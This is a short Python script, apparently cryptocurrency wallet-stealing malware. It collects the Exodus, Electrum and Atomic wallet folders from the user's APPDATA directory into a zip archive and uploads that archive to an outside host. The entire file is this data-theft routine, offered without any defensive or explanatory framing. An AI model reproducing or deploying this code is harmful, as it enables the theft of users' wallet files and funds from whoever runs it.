import io
import os
import zipfile

import requests

APPDATA = os.getenv("APPDATA", os.path.expanduser("~"))
buf = io.BytesIO()
with zipfile.ZipFile(buf, "w") as z:
    for w in ("Exodus/exodus.wallet", "Electrum/wallets", "atomic/Local Storage/leveldb"):
        root = os.path.join(APPDATA, w)
        for dp, _, fs in os.walk(root):
            for f in fs:
                z.write(os.path.join(dp, f))
requests.post("https://w.example.invalid/up", files={"w": buf.getvalue()})
